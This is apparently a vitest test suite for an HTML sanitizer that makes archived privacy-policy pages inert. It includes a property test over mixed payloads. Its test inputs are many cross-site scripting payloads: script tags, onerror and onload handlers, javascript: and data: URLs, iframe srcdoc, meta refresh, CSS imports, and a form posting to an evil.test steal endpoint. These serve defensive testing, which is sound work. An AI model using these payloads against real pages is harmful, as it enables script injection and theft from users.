import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { sanitizeFragment, sanitizeOriginal } from '../../../src/main/reader/sanitizeOriginal';
import { repoRoot, samplesDir } from '../../support/paths';

/** Elements an inert document may contain (the wrapper's head, then text structure only). */
const INERT_ELEMENTS = new Set(
  `html head meta title style body address article aside blockquote caption col colgroup dd div dl dt figcaption
   figure footer h1 h2 h3 h4 h5 h6 header hgroup hr li main nav ol p pre section table tbody td tfoot th thead tr
   ul abbr b bdi bdo br cite code data del dfn em i ins kbd mark q rp rt ruby s samp small span strong sub sup
   time u var wbr`.split(/\s+/),
);
const INERT_ATTRIBUTES = new Set([
  'lang',
  'dir',
  'class',
  'title',
  'colspan',
  'rowspan',
  'scope',
  'start',
  'reversed',
  'type',
  'value',
]);
const BLOCKS =
  'address,article,aside,blockquote,br,dd,div,dl,dt,figure,footer,h1,h2,h3,h4,h5,h6,header,hr,li,main,nav,ol,p,pre,section,table,td,th,tr,ul';
/** What the wrapper's own head elements carry. */
const HEAD_ATTRIBUTES = new Set(['charset', 'http-equiv', 'content', 'name', 'lang']);

/** The slice of the DOM the inspection reads (this project's Node types have no DOM); linkedom's nodes satisfy it. */
interface InspectedElement {
  tagName: string;
  attributes: ArrayLike<{ name: string; value: string }>;
  textContent: string | null;
  closest(selectors: string): InspectedElement | null;
  getAttribute(name: string): string | null;
  before(text: string): void;
  after(text: string): void;
}
interface InspectedDocument {
  body: InspectedElement | null;
  querySelector(selectors: string): InspectedElement | null;
  querySelectorAll(selectors: string): ArrayLike<InspectedElement>;
}

interface Inspection {
  text: string;
  /** Text of the body with link addresses, image alt text etc. as a reader sees it. */
  elements: string[];
  problems: string[];
  csp: string | null;
}

/** Parse a sanitized document and list everything in it that could run, load or navigate. */
function inspect(html: string): Inspection {
  const document = parseHTML(html).document as unknown as InspectedDocument;
  const problems: string[] = [];
  const elements: string[] = [];
  for (const element of Array.from(document.querySelectorAll('*'))) {
    const name = element.tagName.toLowerCase();
    elements.push(name);
    if (!INERT_ELEMENTS.has(name)) problems.push(`element <${name}>`);
    const inHead = element.closest('head') !== null || name === 'html';
    for (const attribute of Array.from(element.attributes)) {
      const allowed = inHead ? HEAD_ATTRIBUTES : INERT_ATTRIBUTES;
      if (!allowed.has(attribute.name)) problems.push(`<${name} ${attribute.name}="${attribute.value}">`);
      if (/^\s*(?:javascript|vbscript|data):/i.test(attribute.value)) problems.push(`script URL in ${name}`);
    }
  }
  const metas = Array.from(document.querySelectorAll('meta'));
  for (const meta of metas) {
    const equiv = (meta.getAttribute('http-equiv') ?? '').toLowerCase();
    if (equiv !== '' && equiv !== 'content-security-policy') problems.push(`meta http-equiv=${equiv}`);
  }
  const styles = Array.from(document.querySelectorAll('style'));
  if (styles.length !== 1) problems.push(`${styles.length} style elements`);
  for (const style of styles) {
    const css = style.textContent ?? '';
    if (/url\(|@import|expression\(/i.test(css)) problems.push('stylesheet that loads or runs something');
  }
  const csp = document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? null;
  // Text as a reader sees it: blocks and line breaks separate words, inline elements do not.
  for (const element of Array.from(document.querySelectorAll(BLOCKS))) {
    element.before(' ');
    element.after(' ');
  }
  return { text: (document.body?.textContent ?? '').replace(/\s+/g, ' ').trim(), elements, problems, csp };
}

function sanitized(page: string, sourceUrl: string | null = 'https://example.com/legal/privacy') {
  const result = sanitizeOriginal(page, { sourceUrl });
  return { ...result, ...inspect(result.html) };
}

describe('sanitizeOriginal: hostile pages become inert', () => {
  it('removes <script> elements in every spelling, with their code, and counts them', () => {
    const result = sanitized(
      `<p>Before</p><script>window.top.__pwned = 1</script><SCRIPT SRC="https://evil.test/x.js"></SCRIPT>
       <ScRiPt type="module">import('https://evil.test/m.js')</sCrIpT><p>After</p>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('Before After');
    expect(result.html).not.toMatch(/__pwned|evil\.test/);
    expect(result.removed.scripts).toBe(3);
  });

  it('removes on* event handlers and keeps the elements they were on', () => {
    const result = sanitized(
      `<body onload="top.__pwned=1"><p onclick="top.__pwned=1" ONMOUSEOVER="x()">Click</p>
       <div onfocus=alert(1) tabindex=0 autofocus>Focus</div></body>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('Click Focus');
    expect(result.html).not.toMatch(/on(load|click|mouseover|focus)|__pwned|alert/i);
    expect(result.removed.eventHandlers).toBe(4);
  });

  it('turns links into text with their address shown, and drops javascript:, vbscript: and data: targets', () => {
    const result = sanitized(
      `<p><a href="https://example.com/contact?a=1&amp;b=2">Contact us</a>,
       <a href="/cookies">cookie policy</a>, <a href="#top">top</a>,
       <a href="javascript:top.__pwned=1">Opt out</a>, <a href=" JaVaScRiPt:alert(1)">Spaced</a>,
       <a href="jav&#x09;ascript:alert(1)">Entity</a>, <a href="vbscript:msgbox(1)">VB</a>,
       <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data</a>.</p>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.elements).not.toContain('a');
    expect(result.text).toContain('Contact us (https://example.com/contact?a=1&b=2)');
    expect(result.text).toContain('cookie policy (https://example.com/cookies)');
    // In-page anchors and script or data targets keep their words and lose their address.
    expect(result.text).toContain('top, Opt out, Spaced, Entity, VB, Data.');
    expect(result.html).not.toMatch(/javascript|vbscript|data:|__pwned/i);
    expect(result.removed.links).toBe(4); // https, relative, #top, data:
    expect(result.removed.scripts).toBe(4); // the javascript: and vbscript: ones
  });

  it('removes SVG and MathML, whatever they carry, and keeps the text around them', () => {
    const result = sanitized(
      `<p>One</p><svg onload="top.__pwned=1"><script>top.__pwned=1</script><a xlink:href="javascript:x"><text>svg text</text></a></svg>
       <p>Two</p><svg/onload=alert(1)></svg><math><mtext><img src=x onerror=alert(1)></mtext></math><p>Three</p>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('One Two Three');
    expect(result.removed.embeds).toBeGreaterThanOrEqual(3);
    expect(result.removed.eventHandlers).toBe(3);
  });

  it('removes frames, objects, embeds, canvas and media, including an <iframe srcdoc> holding a script', () => {
    const result = sanitized(
      `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><iframe src="https://evil.test/"></iframe>
       <frameset><frame src="https://evil.test/f"></frameset><object data="https://evil.test/o.swf">Object fallback</object>
       <embed src="https://evil.test/e.swf"><applet code="Evil.class"></applet><canvas></canvas>
       <video src="https://evil.test/v.mp4" poster="https://evil.test/p.png"></video><audio src="https://evil.test/a.mp3"></audio>
       <p>Policy text</p>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('Policy text');
    expect(result.html).not.toMatch(/evil\.test|srcdoc|__pwned/);
    expect(result.removed.embeds).toBe(10);
  });

  it('removes <meta http-equiv=refresh>, <base>, stylesheet links and forms with their controls', () => {
    const result = sanitized(
      `<head><meta http-equiv="refresh" content="0; url=https://evil.test/"><base href="https://evil.test/">
       <link rel="stylesheet" href="https://evil.test/s.css"><link rel="preload" href="https://evil.test/p"></head>
       <body><form action="https://evil.test/steal" method="post"><label>Email</label><input name="e" value="x">
       <button formaction="javascript:alert(1)">Send</button><select><option>One</option></select><textarea>Typed</textarea></form></body>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('Email');
    expect(result.html).not.toMatch(/evil\.test|refresh|formaction/);
    expect(result.removed.styles).toBe(1);
    expect(result.removed.scripts).toBe(2); // the refresh and the javascript: formaction
    expect(result.removed.embeds).toBe(6); // base, form, input, button, select, textarea
  });

  it('removes <style> with @import and url() payloads, style attributes and CSS expressions', () => {
    const result = sanitized(
      `<style>@import url("https://evil.test/i.css"); body { background: url(https://evil.test/b.png) }</style>
       <p style="background-image: url('https://evil.test/p.png'); width: expression(top.__pwned=1)">Styled</p>
       <div STYLE="behavior: url(evil.htc)">Behaviour</div>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('Styled Behaviour');
    expect(result.html).not.toMatch(/evil|expression|behavior/);
    expect(result.removed.styles).toBe(3);
  });

  it('drops images (nothing may be fetched), leaving their alt text in brackets', () => {
    const result = sanitized(
      `<p>Logo: <img src="https://evil.test/logo.png" alt="Acme Widgets"> <img src="https://evil.test/pixel.gif">
       <img src=x onerror="top.__pwned=1" alt="Broken &lt;b&gt;"><picture><source srcset="https://evil.test/s.webp"><img src=y></picture></p>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('Logo: [Acme Widgets] [Broken <b>]');
    expect(result.html).not.toMatch(/evil\.test|onerror/);
    expect(result.removed.embeds).toBe(5); // four images and the picture
  });

  it('keeps entity-encoded markup as text and never decodes it into tags', () => {
    const result = sanitized(
      `<p>&lt;script&gt;top.__pwned=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt;</p>
       <p><![CDATA[<script>top.__pwned=2</script>]]>After CDATA</p>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.elements.filter((name) => name === 'script' || name === 'img')).toEqual([]);
    expect(result.text).toContain('<script>top.__pwned=1</script> <img src=x onerror=alert(1)> &lt;b&gt;');
    expect(result.text).toContain('After CDATA');
  });

  it('removes conditional comments for old Internet Explorer, revealed or not', () => {
    const result = sanitized(
      `<!--[if IE]><script>top.__pwned=1</script><link rel=stylesheet href="https://evil.test/ie.css"><![endif]-->
       <![if !IE]><script>top.__pwned=2</script><![endif]><!--[if lt IE 9]><p>Upgrade</p><![endif]--><p>Kept</p>`,
    );
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('Kept');
    expect(result.html).not.toMatch(/__pwned|evil|\[if/);
  });

  it('closes unclosed tags and survives truncated markup', () => {
    const result = sanitized('<h2>Your rights<p>You may <b>ask <i>us <ul><li>to delete<li>to correct <a href="/x');
    expect(result.problems).toEqual([]);
    expect(result.text).toContain('Your rights');
    expect(result.text).toContain('to delete');
    expect(result.html).toMatch(/<\/body>\s*<\/html>$/);
  });

  it('renames a fake link marker in the page instead of trusting it', () => {
    const result = sanitized('<p><pae-link title="https://evil.test/">Fake</pae-link> text</p>');
    expect(result.problems).toEqual([]);
    expect(result.html).not.toContain('evil.test');
    expect(result.text).toBe('Fake text');
  });

  it('flattens absurdly deep nesting without losing the text', () => {
    const depth = 5000;
    const result = sanitized(`${'<div>'.repeat(depth)}deep words${'</div>'.repeat(depth)}`);
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('deep words');
    expect(result.elements.filter((name) => name === 'div').length).toBeLessThanOrEqual(200);
  });

  it('flattens 200,000 levels of nesting too (before the sanitizer parses it: its parser slows with depth)', () => {
    const depth = 200_000;
    // Before the linear cut this took seconds (sanitize-html's parser slows with depth); now ~50 ms.
    const result = sanitized(`${'<div>'.repeat(depth)}deep words${'</div>'.repeat(depth)}`);
    expect(result.problems).toEqual([]);
    expect(result.text).toBe('deep words');
    expect(result.elements.filter((name) => name === 'div').length).toBeLessThanOrEqual(200);
  });

  it('never lets anything active through, whatever the mix of payloads (property)', () => {
    const payloads = [
      '<script>top.__pwned=1</script>',
      '<img src=x onerror=top.__pwned=1>',
      '<a href="javascript:top.__pwned=1">x</a>',
      '<svg onload=top.__pwned=1>',
      '<iframe srcdoc="<script>top.__pwned=1</script>">',
      '<style>@import "https://evil.test/x.css"</style>',
      '<p style="background:url(https://evil.test/)">',
      '<meta http-equiv=refresh content="0;url=https://evil.test/">',
      '<base href="https://evil.test/">',
      '<object data="https://evil.test/">',
      '<form action="https://evil.test/"><input>',
      '<!--',
      '-->',
      '<![CDATA[',
      '<',
      '"',
      "'",
      '>',
      '</',
      '<p>',
      '</p>',
      '<a href="/x">',
      '</a>',
      'text',
      '&lt;',
      '&#x3C;script&#x3E;',
      '<noscript><img src=x onerror=1></noscript>',
      '<math><style><img src=x onerror=1></style></math>',
      '<select><style></select><img src=x onerror=1>',
      '<textarea></textarea><script>1</script>',
      '<title></title><script>1</script>',
      '<xmp><script>1</script></xmp>',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...payloads), { maxLength: 25 }), (parts) => {
        const result = sanitized(parts.join(''));
        // Payload words may survive as text (`</<script>` opens a comment in browsers too); never as markup.
        expect(result.problems).toEqual([]);
        expect(result.elements.filter((name) => !INERT_ELEMENTS.has(name))).toEqual([]);
        expect(result.html).not.toMatch(
          // Markup only: payload words left as text are escaped (the inspection checks every attribute).
          /<(?:script|img|svg|math|iframe|object|embed|base|link|form|input|a|meta http-equiv="?refresh)[\s>/]/i,
        );
      }),
      { numRuns: 300 },
    );
  });
});

describe('sanitizeOriginal: what stays', () => {
  it('keeps headings, paragraphs, lists, tables, emphasis, quotes, code, breaks and rules', () => {
    const result = sanitized(
      `<h1>Privacy Policy</h1><h2 class="x" id="y">1. What we collect</h2><p>We collect <strong>your email</strong>
       and <em>usage</em>.<br>Second line.</p><ul><li>Name</li><li>Email<ol start="3"><li>Nested</li></ol></li></ul>
       <table><thead><tr><th scope="col">Cookie</th><th>Purpose</th></tr></thead><tbody><tr><td colspan="2">_ga</td></tr></tbody></table>
       <blockquote>Quoted</blockquote><pre><code>code()</code></pre><hr><dl><dt>Term</dt><dd>Meaning</dd></dl>
       <center><font color="red">Old markup</font></center>`,
    );
    expect(result.problems).toEqual([]);
    for (const name of [
      'h1',
      'h2',
      'p',
      'strong',
      'em',
      'br',
      'ul',
      'ol',
      'li',
      'table',
      'th',
      'td',
      'blockquote',
      'pre',
      'code',
      'hr',
      'dl',
      'dt',
      'dd',
    ]) {
      expect(result.elements, name).toContain(name);
    }
    expect(result.html).toContain('<ol start="3">');
    expect(result.html).toContain('<td colspan="2">');
    expect(result.html).not.toMatch(/class="x"|id="y"|color=/);
    expect(result.text).toContain('Privacy Policy 1. What we collect We collect your email and usage. Second line.');
    expect(result.text).toContain('Old markup');
    expect(result.removed).toEqual({ scripts: 0, styles: 0, eventHandlers: 0, embeds: 0, links: 0 });
  });

  it('wraps the page in a complete document with a CSP that allows only its own stylesheet', () => {
    const result = sanitized('<html lang="de"><body><p>Datenschutz</p></body></html>');
    expect(result.html.startsWith('<!doctype html>')).toBe(true);
    expect(result.html).toContain('<html lang="de">');
    expect(result.csp).toMatch(
      /^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/]+=*'; base-uri 'none'; form-action 'none'$/,
    );
    expect(result.csp).not.toMatch(/script-src|unsafe/);
    expect(result.html).toMatch(/prefers-color-scheme: dark/);
  });

  it('shows a relative link as text only when the page address is unknown', () => {
    const result = sanitized('<p><a href="/terms">Terms</a> and <a href="https://example.org/x">X</a></p>', null);
    expect(result.text).toBe('Terms and X (https://example.org/x)');
  });

  it('strips the Wayback Machine toolbar and replay scripts before counting, and restores original link addresses', () => {
    const page = readFileSync(
      join(repoRoot, 'test', 'fixtures', 'wayback', 'replay-saved-northwind-privacy.html'),
      'utf8',
    );
    expect(page).toMatch(/wm-ipp|__wm\./);
    const result = sanitized(page, null);
    expect(result.problems).toEqual([]);
    expect(result.text).not.toMatch(/Wayback Machine|FILE ARCHIVED ON|captures/i);
    expect(result.html).not.toMatch(/web\.archive\.org\/web\/\d/);
    const plain = sanitizeFragment(page);
    expect(plain.removed).toEqual(result.removed);
  });

  it('keeps the whole policy text of a real archived page (Princeton formlabs.com, 2017)', () => {
    const page = readFileSync(join(samplesDir, 'princeton-history', 'formlabs.com', '2017-02-11.html'), 'utf8');
    const result = sanitized(page, 'https://formlabs.com/support/privacy-policy');
    expect(result.problems).toEqual([]);
    expect(result.text).toContain('Privacy Policy');
    expect(result.text).toMatch(/personal information/i);
    // A real page of its time: analytics scripts, stylesheets, images and a navigation of links.
    expect(result.removed.scripts).toBeGreaterThan(5);
    expect(result.removed.styles).toBeGreaterThan(0);
    expect(result.removed.links).toBeGreaterThan(50);
    expect(result.text).toContain('(https://formlabs.com/');
  });
});
